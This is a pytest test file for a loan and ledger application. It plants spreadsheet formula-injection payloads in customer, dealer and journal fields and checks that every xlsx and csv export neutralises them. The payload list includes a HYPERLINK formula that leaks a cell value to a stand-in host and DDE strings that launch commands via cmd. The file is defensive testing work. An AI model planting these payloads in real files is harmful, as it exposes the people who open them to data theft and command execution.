"""Adversarial (issue 19, item 1): no export Angsur can produce carries a live formula.

A customer, a dealer, a customer's note and a journal memo each hold one formula-injection pattern; every export
the app offers (command line, screens -- which render the same report tables -- and the import error reports)
is written as .xlsx and .csv, then every sheet XML is scanned for an ``<f>`` element and every CSV cell for a
leading formula character.
"""
from __future__ import annotations

import argparse
import csv
import datetime as dt
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from adversarial_helpers import demo_db, demo_template  # noqa: F401 - fixtures

from models.core.cells import FORMULA_START, formula_problem, safe_text, sheet_value

pytestmark = pytest.mark.adversarial

PATTERNS = ['=HYPERLINK("http://x.example/?nik="&B2,"klik")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _plant(tmp_path: Path) -> None:
    """Hostile text where a clerk (or an old version, or an import) could have put it."""
    from models.core.users import User
    from models.customers.customers import Customer
    from models.customers.dealers import Dealer
    from models.ledger.chart import Line
    from models.ledger.journals import post_journal

    # Every customer and every dealer carries one of the patterns (so each appears wherever they are listed).
    # Raw SQL: models/ now refuses a TAB or CR in a name, but a file written by an older version (or by hand)
    # still holds them, and the exports must stay safe for it.
    db = Customer._meta.database
    for n, customer in enumerate(Customer.select().order_by(Customer.id)):
        text = PATTERNS[n % len(PATTERNS)]
        db.execute_sql("UPDATE customer SET full_name = ?, notes = ?, address = ? WHERE id = ?",
                       (text, text, text, customer.id))
    for n, dealer in enumerate(Dealer.select().order_by(Dealer.id)):
        db.execute_sql("UPDATE dealer SET name = ? WHERE id = ?", (PATTERNS[n % len(PATTERNS)], dealer.id))
    accountant = User.get(User.username == "akuntan")
    for text in PATTERNS:  # through the ledger: a TAB or CR inside one-line fields is refused there now
        text = text.strip()
        post_journal(accountant, dt.date(2026, 11, 20), text, "manual",
                     [Line(_expense_code(), debit="1000", memo=text),
                      Line(_cash_code(), credit="1000", memo=text)], reference=text[:60])


def _cash_code() -> str:
    from models.ledger.chart import chart_roles

    return chart_roles()["cash"]


def _expense_code() -> str:
    from models.ledger.accounts import leaf_ids
    from models.ledger.chart import Account

    leaves = leaf_ids()
    return (Account.select().where((Account.type == "expense") & Account.id.in_(list(leaves))
                                   & (Account.is_control == False))  # noqa: E712
            .order_by(Account.code).first().code)


def _formulas_in_xlsx(path: Path) -> list[str]:
    found = []
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.endswith(".xml"):
                xml = z.read(name).decode("utf-8", "replace")
                found += [f"{path.name}:{name}:{m}" for m in re.findall(r"<(?:\w+:)?f[ >][^<]{0,60}", xml)]
    return found


def _formulas_in_csv(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return [f"{path.name}:{cell!r}" for row in csv.reader(fh, delimiter=";") for cell in row
                if cell.startswith(FORMULA_START) and not re.fullmatch(r"-?[0-9.]+", cell)]


def _args(**kw):
    base = dict(what="journal", date_from="2026-01-01", date_to="2026-11-30", out="", user="manajer")
    base.update(kw)
    return argparse.Namespace(**base)


def test_every_export_of_hostile_names_notes_and_memos_has_no_live_formula(demo_db, tmp_path):
    from models.core.users import User
    from models.customers import customer_import
    from models.loans import loan_import
    from reports.cash_report import write_cash_report
    from reports.commands import export_command
    from reports.loan_book import export_loan_book

    _plant(tmp_path)
    manager = User.get(User.username == "manajer")
    written: list[Path] = []
    for what in ("journal", "trial-balance", "audit", "loans"):
        for suffix in (".xlsx", ".csv"):
            if what == "audit" and suffix == ".csv":
                continue
            out = tmp_path / f"{what}{suffix}"
            extra = {"date_from": None} if what == "loans" else {}
            assert export_command(_args(what=what, out=str(out), **extra)) == 0, what
            written.append(out)
    out = tmp_path / "customers.xlsx"
    assert export_command(_args(what="customers", out=str(out))) == 0
    written.append(out)
    for status in ("active", None):
        for suffix in (".xlsx", ".csv"):
            export_loan_book(manager, tmp_path / f"book-{status}{suffix}", status=status)
            written.append(tmp_path / f"book-{status}{suffix}")
    written.append(write_cash_report(dt.date(2026, 11, 20), tmp_path / "kas.xlsx"))
    # The import error reports hand the office's own file back: feed them the customers export (names with
    # formulas) and a loan sheet whose cells are formulas, as a hostile dealer's file would be.
    plan = customer_import.plan_import(manager, tmp_path / "customers.xlsx")
    assert any(e.code == "formula" for e in plan.errors)
    written.append(customer_import.write_error_report(plan, tmp_path / "customers-errors.xlsx"))
    hostile = tmp_path / "loans-in.xlsx"
    loan_import.write_template(hostile)
    wb = openpyxl.load_workbook(hostile)
    for col, text in enumerate(PATTERNS, start=1):
        wb.active.cell(row=3, column=col, value=text)  # openpyxl stores '=…' as a real formula cell
    wb.save(hostile)
    assert _formulas_in_xlsx(hostile), "the hostile input must itself carry formulas"
    lplan = loan_import.plan_import(hostile)
    written.append(loan_import.write_error_report(lplan, tmp_path / "loans-errors.xlsx"))

    problems = []
    for path in written:
        problems += _formulas_in_xlsx(path) if path.suffix == ".xlsx" else _formulas_in_csv(path)
    assert problems == []
    # …and every pattern is still there, as text a person reads: names, dealers and journal texts.
    def texts(name: str) -> set[str]:
        wb = openpyxl.load_workbook(tmp_path / name)
        return {c for ws in wb.worksheets for row in ws.iter_rows(values_only=True) for c in row
                if isinstance(c, str)}

    customers_out, book, journal = texts("customers.xlsx"), texts("book-None.xlsx"), texts("journal.xlsx")
    for text in PATTERNS:
        read_back = "'" + text.replace("\r", "\n")  # XML reads a CR back as LF; the apostrophe stays first
        assert read_back in customers_out  # the customer's name (and notes, address)
        assert read_back in book  # the dealer and the customer in the loan book
        assert "'" + text.strip() in journal  # the journal's description (a manual correction)


@pytest.mark.parametrize("text", PATTERNS + [" =1+1", "\t=HYPERLINK(\"x\")", "\n@x", "  +A1", "-A1*2"])
def test_the_importer_refuses_a_formula_even_behind_spaces_tabs_and_returns(text):
    assert formula_problem(text)


@pytest.mark.parametrize("text", ["+62 812-3456-7890", "-", "-150000", "Jl. Merdeka = 5", "Siti @ Rumah"])
def test_the_importer_keeps_phone_numbers_dashes_and_inner_signs(text):
    assert formula_problem(text) is None


def test_the_one_cell_writer_leaves_numbers_and_dates_and_neutralises_text():
    assert sheet_value(1250000) == 1250000 and sheet_value(dt.date(2026, 1, 5)) == dt.date(2026, 1, 5)
    for text in PATTERNS:
        assert sheet_value(text).startswith("'")
    assert safe_text("\x1b=1+1") == "'=1+1"  # a control character cannot hide the start
